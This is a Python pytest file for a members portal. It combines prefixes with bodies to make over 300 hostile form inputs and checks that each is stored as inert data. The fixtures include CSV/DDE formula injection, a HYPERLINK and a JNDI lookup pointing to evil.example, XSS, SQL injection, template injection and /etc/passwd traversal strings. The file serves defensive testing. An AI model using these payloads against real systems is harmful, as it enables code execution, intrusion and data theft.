"""300 hostile texts: each ends as data, in the files, in the spreadsheet, in the file of members and on the screen."""

from __future__ import annotations

from itertools import product

import pytest

from members_portal.inbox.record.inbox_row import AnswerRow
from members_portal.inbox.record.row_file import read_rows
from members_portal.loyalty.input.csv_cell import FORMULA_STARTS
from tests.inbox.letters import Letter
from tests.inbox.quay import Quay

STARTS = (
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "'",
    "'=",
    "\u202e",
    "\ufeff=",
    "\x1b[31m",
    "\x07",
    "\u200b",
    "=\r\n=",
    "\\",
    '"',
)
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example","x")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% include 'x' %}",
    'a,b;c\td\n"e"\n- id: M-1',
    "../../../etc/passwd",
    "%s%n%d{0.__class__}",
    "' or 1=1 --",
    "\x85\u2028\u2029next",
    "\U000e0041\ufdd0\u0301\u0301\u0301",
    "<!-- --> ]]> */ */",
    "${jndi:ldap://evil.example/a}",
    "مرحبا \u2066 hidden \u2069 world",
    "-----BEGIN SEALED ANSWER-----",
    "x" * 3900,
    "# comment: [a, b] {c: d} & *e !f | > %g",
    "\r\rA1",
    'DDE("a";"b")',
)
TEXTS = [start + body for start, body in product(STARTS, BODIES)]


def with_line_ends(text: str) -> str:
    """Return a text with one kind of line end."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_three_hundred_hostile_texts_end_as_data(quay: Quay) -> None:
    assert len(TEXTS) >= 300
    letters = [Letter("forms/tell-us", {"words": text}, "L-101") for text in TEXTS]
    run = quay.take(*letters)
    assert run.err == ""
    told = {row.number: row.answer for row in read_rows(quay.inbox / "answers.csv", AnswerRow)}
    assert told == {letter.number: with_line_ends(text.strip()) for letter, text in zip(letters, TEXTS, strict=True)}
    for row in quay.rows("answers.csv"):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
    assert "evil" not in run.text
    assert quay.take(*letters).code == 0
    assert len(told) == len(quay.rows("answers.csv"))


@pytest.mark.long
def test_hostile_joins_and_changes_are_approved_as_data_or_refused_whole(quay: Quay) -> None:
    lines = [text for text in TEXTS if text.isprintable() and len(text) <= 200][::7]
    joins = [
        Letter("forms/join", {"given-name": line, "family-name": line, "email": f"a{n}@post.example", "phone": line})
        for n, line in enumerate(lines)
    ]
    changes = [
        Letter("forms/your-details", {"phone": line, "address": f"{line}\n{line}\n5003 Bergen"}, "L-101")
        for line in lines
    ]
    quay.take(*joins, *changes)
    assert len(quay.rows("joins.csv")) == len(lines)
    for letter in (*joins, *changes):
        run = quay.run("approve", letter.number)
        assert run.code in {0, 1}, run.text
        assert "Traceback" not in run.text
        assert run.text.replace("\n", "").isprintable()
        assert "evil" not in run.text
    assert quay.project.portal("check").code == 0


def test_a_payload_that_is_no_text_is_set_aside(quay: Quay) -> None:
    values = ["a\0b", "\ud800", 7, None, {"a": "b"}, [["a"]], True]
    letters = [Letter("forms/tell-us", {"words": value}, "L-101", seed=n) for n, value in enumerate(values)]
    run = quay.take(*letters)
    assert len(quay.rows("set-aside.csv")) == len(values), run.text
    assert quay.rows("answers.csv") == []
